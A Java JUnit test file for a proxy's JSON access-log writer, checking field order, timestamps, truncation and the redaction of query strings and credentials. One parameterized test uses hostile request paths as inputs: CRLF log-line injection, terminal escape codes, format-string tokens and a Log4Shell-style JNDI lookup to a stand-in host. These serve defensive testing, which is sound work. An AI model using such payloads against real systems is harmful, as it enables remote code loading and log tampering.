package io.hikyaku.call.observe.log;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.hikyaku.call.observe.Observation;
import io.hikyaku.call.observe.Observation.Side;
import io.hikyaku.call.observe.meter.CallBooks;
import io.hikyaku.call.observe.meter.CallObservers;
import io.hikyaku.wire.call.Fields;
import io.hikyaku.wire.call.HttpFrame.RequestHead;
import io.hikyaku.wire.call.HttpFrame.Version;
import io.hikyaku.wire.call.Workload;
import io.micrometer.core.instrument.simple.SimpleMeterRegistry;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

class AccessLogTest {
    private static final List<String> KEYS = List.of(
            "time",
            "side",
            "service",
            "protocol",
            "peer",
            "callerNamespace",
            "callerServiceAccount",
            "callerPod",
            "method",
            "host",
            "path",
            "status",
            "grpcStatus",
            "outcome",
            "requestBytes",
            "responseBytes",
            "firstByteMs",
            "durationMs",
            "attempts",
            "requestId",
            "traceId",
            "spanId");

    private static Observation call() {
        return new CallBooks(new SimpleMeterRegistry(), CallObservers.NONE)
                .calls(Side.EXPORT, "shop/orders:80")
                .begin();
    }

    private static Observation request(String method, String host, String path) {
        Observation call = call();
        call.onBridgeRequest(new RequestHead(Version.HTTP_1_1, method, "http", host, path, Fields.NONE));
        return call;
    }

    private static String line(Observation call, boolean withQuery) {
        StringBuilder out = new StringBuilder();
        AccessLine.of(call, 1_700_000_000_123L, withQuery).write(out);
        return out.toString();
    }

    private static JsonNode finished(Observation call, boolean withQuery) {
        call.finish("completed", 0);
        return JsonMapper.shared().readTree(line(call, withQuery));
    }

    @Test
    void everyLineHasTheSameKeysInTheSameOrder() {
        // When
        JsonNode tcp = finished(call(), false);
        JsonNode http = finished(request("GET", "o", "/"), false);

        // Then
        assertEquals(KEYS, List.copyOf(tcp.propertyNames()));
        assertEquals(KEYS, List.copyOf(http.propertyNames()));
        assertTrue(tcp.get("method").isNull());
        assertEquals("tcp", tcp.get("protocol").asString());
        assertEquals("http/1.1", http.get("protocol").asString());
    }

    @Test
    void aCallerIsNamedAsFarAsItsBridgeSays() {
        // Given
        Observation known = call();
        Observation inPart = call();
        Observation unknown = call();

        // When
        known.onBridge("tokyo", Optional.of(new Workload("web", "frontend", "frontend-0")));
        inPart.onBridge("tokyo", Optional.of(new Workload("web", "", "")));
        unknown.onBridge("tokyo", Optional.empty());

        // Then
        assertTrue(
                line(known, false)
                        .contains("\"peer\":\"tokyo\",\"callerNamespace\":\"web\","
                                + "\"callerServiceAccount\":\"frontend\",\"callerPod\":\"frontend-0\","),
                line(known, false));
        assertTrue(
                line(inPart, false)
                        .contains("\"callerNamespace\":\"web\",\"callerServiceAccount\":null,\"callerPod\":null,"),
                line(inPart, false));
        assertTrue(
                line(unknown, false)
                        .contains("\"callerNamespace\":null,\"callerServiceAccount\":null,\"callerPod\":null,"),
                line(unknown, false));
    }

    @Test
    void timesAreInUtcAndDurationsInMillisecondsWithMicros() {
        // When
        Observation call = call();
        call.onResponseBytes(1);
        JsonNode line = finished(call, false);

        // Then
        assertTrue(line.get("time").asString().matches("2023-11-14T22:13:20\\.\\d{6}Z"), line.toString());
        assertTrue(line(call, false).matches("(?s).*\"firstByteMs\":\\d+\\.\\d{3},\"durationMs\":\\d+\\.\\d{3},.*"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/a\r\nHTTP/1.1 200 OK",
                "/\u001b[2J\u001b]0;x\u0007",
                "/\u0000",
                "/%n%s%x",
                "/${jndi:ldap://evil/a}",
                "/\u00e9\u0080\u00ff",
                "/\u202e\u2028",
                "/\ud800",
                "/\"},{\"side\":\"import",
                "/\\\"\\",
                "/\u007f",
            })
    void whatCallersSendNeitherForgesLinesNorSteersATerminal(String path) {
        // When
        Observation call = request("GET", "o", path);
        JsonNode parsed = finished(call, false);
        String line = line(call, false);

        // Then
        assertEquals(path, parsed.get("path").asString());
        assertEquals(line.length() - 1, line.indexOf('\n'));
        assertTrue(line.substring(0, line.length() - 1).chars().allMatch(c -> c >= ' ' && c < 0x7f), line);
    }

    @Test
    void longTextsAreCut() {
        // When
        JsonNode line = finished(request("M".repeat(100), "h".repeat(2000), "/" + "p".repeat(1 << 20)), false);

        // Then
        assertEquals(AccessLine.MAX_METHOD, line.get("method").asString().length());
        assertEquals(AccessLine.MAX_HOST, line.get("host").asString().length());
        assertEquals(AccessLine.MAX_PATH, line.get("path").asString().length());
        assertTrue(line.get("path").asString().endsWith("p…"));
    }

    @Test
    void theQueryIsShownOnlyWhereThatIsWanted() {
        assertEquals(
                "/a",
                finished(request("GET", "o", "/a?token=secret"), false)
                        .get("path")
                        .asString());
        assertEquals(
                "/a?token=secret",
                finished(request("GET", "o", "/a?token=secret"), true)
                        .get("path")
                        .asString());
    }

    @Test
    void fieldsOfTheRequestAreNotShown() {
        // Given
        Observation call = call();
        call.onBridgeRequest(new RequestHead(
                Version.HTTP_1_1,
                "GET",
                "http",
                "o",
                "/",
                Fields.of("Authorization", "Bearer secret", "Cookie", "secret")));

        // When
        call.finish("completed", 0);

        // Then
        assertFalse(line(call, true).contains("secret"));
    }
}
